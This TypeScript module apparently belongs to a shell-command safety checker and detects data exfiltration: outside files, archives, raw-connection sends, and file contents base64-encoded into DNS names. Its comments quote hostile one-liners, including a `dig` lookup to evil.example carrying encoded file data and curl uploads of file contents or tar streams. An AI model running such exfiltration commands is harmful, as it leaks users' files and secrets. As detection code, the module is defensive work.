// Finds data that leaves this machine in bulk or in disguise: files from outside the project, archives, whatever goes
// through a raw connection, and the content of files in the names of hosts.
import { effect } from '../base/effect.ts';
import { classifyPath, type PathClass, resolve } from '../base/paths.ts';
import { HOLE } from '../base/words.ts';
import { hasLogin } from '../programs/behaviours/http.ts';
import { behavioursOf } from '../programs/behaviours-of.ts';
import { argsOf, hasTrait, programNamed, programOf } from '../programs/registry.ts';
import type { Effect, Origin, ShellCommand, ShellWorld, Word } from '../types.ts';

/** The files that the arguments of a command send. */
export function sentFiles(command: ShellCommand): readonly Origin[] {
  if (command.words.some((w) => /^--dry-?run$/.test(w.text))) return [];
  const args = argsOf(command);
  return behavioursOf(command)
    .flatMap((behaviour) => behaviour.sends?.(command, args) ?? [])
    .map((w) => ({ kind: 'file', name: resolve(w.text, command.cwd) ?? w.text }));
}

export const sentByInput = (command: ShellCommand): readonly Origin[] =>
  programOf(command).traits?.includes('ignores-input') &&
  !command.words.some((w) => /(^|=|@)-$|\/dev\/stdin|s_client/.test(w.text))
    ? []
    : (command.stdin?.origins ?? []);

/** `curl -d "$(cat notes.txt)" …`: the content of a file as the body. */
const bodyOrigins = (command: ShellCommand): readonly Origin[] =>
  argsOf(command).options.flatMap(({ kind, value }) =>
    kind === 'sends' && value?.text.includes(HOLE) ? value.origins : [],
  );

/** Finds data that a command sends to another machine in ways that its words don’t say. */
export function outgoingEffects(command: ShellCommand, world: ShellWorld): Effect[] {
  // The paths are those of another machine.
  if (command.remote) return [];
  const { traits = [] } = programOf(command);
  const raw = traits.includes('raw-connection');
  const http = traits.includes('http');
  const input = raw || http ? sentByInput(command) : [];
  const files = [...sentFiles(command), ...bodyOrigins(command), ...input].filter(isContent);
  // `gh release upload`: a client of one service logs in by itself, so only general clients count.
  const archived =
    http &&
    traits.includes('fetches') &&
    !isNearby(command) &&
    !hasLogin(argsOf(command)) &&
    (files.some(isArchive) || isPacked(input));
  return [
    ...sendEffects(
      command,
      'send-outside',
      files.filter((o) => isOutside(o, world)),
    ),
    ...sendEffects(command, 'send-raw', raw && !isNearby(command) ? files : []),
    ...sendEffects(command, 'send-archive', archived ? files : []),
  ];
}

const sendEffects = (command: ShellCommand, code: string, origins: readonly Origin[]): Effect[] =>
  origins.length === 0
    ? []
    : [effect(command, { kind: 'send', weight: 'plain', code, reason: 'Sends files.', origins })];

const OUTSIDE: readonly PathClass[] = [
  'root',
  'system',
  'home',
  'other-home',
  'above-project',
  'in-home',
  'outside',
];

/** A public key is meant for others. */
const isOutside = ({ name }: Origin, world: ShellWorld) =>
  name.startsWith('/') && !/\.pub$/.test(name) && OUTSIDE.includes(classifyPath(name, world));

const isContent = ({ kind, name }: Origin) => kind === 'file' && !/^\/(dev|proc)\/(?!shm)/.test(name);

/** `build.local`: a name that only the local network knows. */
const isNearby = ({ words }: ShellCommand) =>
  words.some((w) => /^([a-z]+:\/\/)?[\w.-]+\.(local|lan|internal|test|home\.arpa|svc)([:/]|$)/i.test(w.text));

const ARCHIVE =
  /\.(zip|7z|rar|tar|t[gbx]z|tbz2|tzst|gz|bz2|xz|zst|lz4|cpio|iso|dmg|gpg|pgp|age|enc|sql|dump|bak|pcap|pcapng|mbox|pst|ost)$/i;

const isArchive = ({ name }: Origin) => ARCHIVE.test(name);

/** `tar cz . | curl -T - …`: files that a program has packed or encrypted. */
const isPacked = (input: readonly Origin[]) =>
  input.some(({ kind }) => kind === 'file') && input.some(({ kind }) => kind === 'decoded');

const NAMED_HOST = /^(?:[a-z][\w+.-]*:\/\/)?(?:[^@/\s]*@)?([^:/?#\s]+)/i;

/** `dig $(base64 notes.txt).evil.example`: whoever answers for the domain reads what stands before it. */
export function hiddenInNames(command: ShellCommand): Effect[] {
  const hides = (w: Word) => {
    const host = NAMED_HOST.exec(w.text)?.[1] ?? '';
    // Where all of the text is known, only a bare name is sure to hold what was encoded.
    const isBare = host === w.text && /\.[a-z]/i.test(host);
    return w.origins.some(
      (o) => isEncoded(o, command) && (o.kind === 'command' ? isBare : /\0[\w-]*\./.test(host)),
    );
  };
  return sendEffects(command, 'send-in-name', argsOf(command).operands.find(hides)?.origins ?? []);
}

const isEncoded = ({ kind, name }: Origin, command: ShellCommand) =>
  kind === 'file'
    ? /\.(hex|b64|b32|base64|base32|enc)$/i.test(name)
    : hasTrait(programNamed(name.split(' ', 1)[0] ?? '', command), 'encodes') &&
      !/\s(-\w*[dDr]|--decode|-reverse)\b/.test(name);
